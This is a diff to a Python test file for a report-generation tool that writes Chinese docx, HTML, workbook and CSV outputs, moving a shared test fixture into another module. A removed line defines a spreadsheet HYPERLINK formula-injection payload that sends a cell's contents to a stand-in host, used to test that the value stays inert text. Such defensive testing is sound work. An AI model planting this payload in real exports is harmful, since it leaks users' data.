@@ -1,6 +1,6 @@
 """The report pack read back: 评估报告.docx, report.html, the workbook, the CSV, a clean output folder.
 
-Packs are built once per module (no notebooks, a few figures at low resolution).
+The packs are built once per test run and shared with test_report_ledger (tests/packs.py).
 """
 
 from __future__ import annotations
@@ -16,63 +16,18 @@ from docx.shared import Mm
 from docx.oxml.ns import qn
 from openpyxl import load_workbook
 
-from analysis import config, vocab
+from analysis import vocab
 from analysis.app import content, figures, report
 from analysis.cli import build_parser, main
-from analysis.io import dataset
 from analysis.model import text
+from tests.packs import EVIL, packs  # noqa: F401 - the shared packs fixture
 
 CJK = re.compile(r"[\u3400-\u9fff]")
-EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
-#: Figures the packs are built with: one for the targets part and one for the sectors part of the
-#: docx (the 21-panel fan chart would only cost time here; every figure is drawn in
-#: tests/test_figures_layout.py).
-DOC_FIGURES = ["scorecard", "sector_trends"]
 N_TARGETS = 21
 
 
-def _build(tmp: Path, name: str, **kw) -> report.PackResult:
-    mp = pytest.MonkeyPatch()
-    mp.setenv("ANALYSIS_PROCESSED_DIR", str(tmp / f"processed_{name}"))
-    try:
-        kw.setdefault("figures_only", DOC_FIGURES)
-        kw.setdefault("formats", ("png",))
-        return report.build_pack(out=tmp / name, dpi=40, notebooks=False, progress=False, **kw)
-    finally:
-        mp.undo()
-
-
-@pytest.fixture(scope="module")
-def packs(tmp_path_factory):
-    tmp = tmp_path_factory.mktemp("packs")
-    # three regions, one of them named by a formula (it must stay text everywhere)
-    obs = dataset.load_observations()
-    other = obs.assign(region="白银区", value=(obs["value"] * 1.1).where(obs["unit"] != "%", obs["value"] * 0.9))
-    evil = obs.assign(region=EVIL)
-    multi = tmp / "three_regions.csv"
-    pd.concat([obs, other, evil])[["region", "indicator_id", "year", "value", "unit"]].to_csv(multi, index=False)
-    # a stale pack in the zh folder: other data, a notebooks page, an old figure, and a user's own file
-    stale = tmp / "zh"
-    (stale / "reports").mkdir(parents=True)
-    (stale / "figures").mkdir(parents=True)
-    (stale / "reports" / "notebooks.html").write_text("OLD", encoding="utf-8")
-    (stale / "reports" / "report.html").write_text("OLD", encoding="utf-8")
-    (stale / "figures" / "99_old_figure_zh.png").write_bytes(b"OLD")
-    (stale / "reports" / "my_notes.txt").write_text("mine", encoding="utf-8")
-    out = {
-        "zh": _build(tmp, "zh", lang="zh"),
-        "zh_again": _build(tmp, "zh_again", lang="zh"),
-        "en": _build(tmp, "en", lang="en", figures_only=["scorecard"]),
-        "multi": _build(tmp, "multi", lang="zh", data=multi, figures_only=["scorecard"]),
-        "own_sectors": _build(tmp, "own_sectors", lang="zh", data=multi, figures_only=["scorecard", "sector_trends"],
-                              sectors=config.sector_panel_path()),
-    }
-    return tmp, out
-
-
 def _file(packs, name, filename) -> Path:
-    tmp, _ = packs
-    return tmp / name / "reports" / filename
+    return packs.file(name, filename)
 
 
 def _target_tables(doc):
@@ -161,17 +116,16 @@ def test_docx_several_regions_a_part_each_and_an_overview(packs):
 
 
 def test_own_data_leaves_out_the_illustrative_sectors_and_says_so(packs):
-    tmp, out = packs
     doc = Document(_file(packs, "multi", "评估报告.docx"))
     body = "\n".join(p.text for p in doc.paragraphs)
     assert "本报告未提供产业面板数据，产业比较从略。" in body and "陶瓷建材" not in body
-    assert not list((tmp / "multi" / "figures").glob("1[0-9]_*"))
+    assert not list((packs.dir("multi") / "figures").glob("1[0-9]_*"))
     assert "产业比较" not in load_workbook(_file(packs, "multi", "scorecard.xlsx")).sheetnames
-    assert any("--sectors" in w for w in out["multi"].warnings)
+    assert any("--sectors" in w for w in packs.result("multi").warnings)
     # the same data with a sector panel given: the part is back
     doc = Document(_file(packs, "own_sectors", "评估报告.docx"))
     assert "陶瓷建材" in "\n".join(p.text for p in doc.paragraphs)
-    assert list((tmp / "own_sectors" / "figures").glob("11_sector_trends_zh.png"))
+    assert list((packs.dir("own_sectors") / "figures").glob("11_sector_trends_zh.png"))
 
 
 # ------------------------------------------------------------------------------------- HTML
@@ -296,16 +250,16 @@ def test_csv_numbers_are_the_workbooks_as_shown(packs):
 
 # --------------------------------------------------------------------------- output folder
 def test_stale_files_of_an_earlier_pack_are_removed(packs):
-    tmp, out = packs
-    reports_dir = tmp / "zh" / "reports"
+    folder = packs.dir("zh")
+    reports_dir = folder / "reports"
     assert not (reports_dir / "notebooks.html").exists()
-    assert not (tmp / "zh" / "figures" / "99_old_figure_zh.png").exists()
+    assert not (folder / "figures" / "99_old_figure_zh.png").exists()
     assert (reports_dir / "report.html").read_text(encoding="utf-8") != "OLD"
     assert (reports_dir / "my_notes.txt").read_text(encoding="utf-8") == "mine"  # not the pack's: kept
-    assert not [p for p in tmp.joinpath("zh").iterdir() if p.name.startswith(".")]  # no staging left
-    listed = {p.name for p in out["zh"].files}
+    assert not [p for p in folder.iterdir() if p.name.startswith(".")]  # no staging left
+    listed = {p.name for p in packs.result("zh").files}
     assert {"评估报告.docx", "report.html", "scorecard.xlsx", "index.html"} <= listed
-    assert all(p.exists() for p in out["zh"].files)
+    assert all(p.exists() for p in packs.result("zh").files)
 
 
 def test_index_links_the_report_and_the_figures(packs):
@@ -344,21 +298,24 @@ def test_staging_folders_of_a_killed_run_are_removed(tmp_path):
     assert not old.exists() and young.exists()
 
 
-@pytest.mark.parametrize("formats", [("svg",), ("pdf",)])
-def test_every_image_of_the_pages_is_a_file_of_the_pack(tmp_path, formats):
+@pytest.mark.parametrize("name, fmt", [("en", "svg"), ("own_data", "pdf")])
+def test_every_image_of_the_pages_is_a_file_of_the_pack(packs, name, fmt):
     """Without PNG: report.html and index.html show the pack's files, none from a removed scratch folder."""
-    res = _build(tmp_path, "pack", lang="zh", formats=formats, figures_only=["scorecard", "growth"])
-    reports_dir = tmp_path / "pack" / "reports"
-    for name in ("report.html", "index.html"):
-        page = (reports_dir / name).read_text(encoding="utf-8")
+    res, folder = packs.result(name), packs.dir(name)
+    drawn = sorted(p.name for p in (folder / "figures").glob(f"*.{fmt}"))
+    assert len(drawn) == 2
+    reports_dir = folder / "reports"
+    for page_name in ("report.html", "index.html"):
+        page = (reports_dir / page_name).read_text(encoding="utf-8")
         srcs = re.findall(r'<img[^>]*\ssrc="([^"]+)"', page)
-        assert len(srcs) == 2, name
+        assert len(srcs) == 2, page_name
         assert all(src.startswith("../figures/") and (reports_dir / src).resolve().is_file() for src in srcs), srcs
         assert "scratch" not in page
-    assert not [p for p in tmp_path.rglob(".*") if p.name.startswith(report.STAGING_PREFIXES)]
-    assert len(Document(reports_dir / report.docx_name("zh")).inline_shapes) == 2  # the docx still has its rasters
-    pngs = sorted(p.name for p in (tmp_path / "pack" / "figures").glob("*.png"))
-    if "svg" in formats:
+    assert not [p for p in folder.rglob(".*") if p.name.startswith(report.STAGING_PREFIXES)]
+    docx = report.docx_name("en" if name == "en" else "zh")
+    assert len(Document(reports_dir / docx).inline_shapes) == 2  # the docx still has its rasters
+    pngs = sorted(p.name for p in (folder / "figures").glob("*.png"))
+    if fmt == "svg":
         assert not pngs and not res.warnings  # drawn aside for the docx, no stray files
     else:
         assert len(pngs) == 2 and any("PNG" in w for w in res.warnings)  # added to the pack, and said so
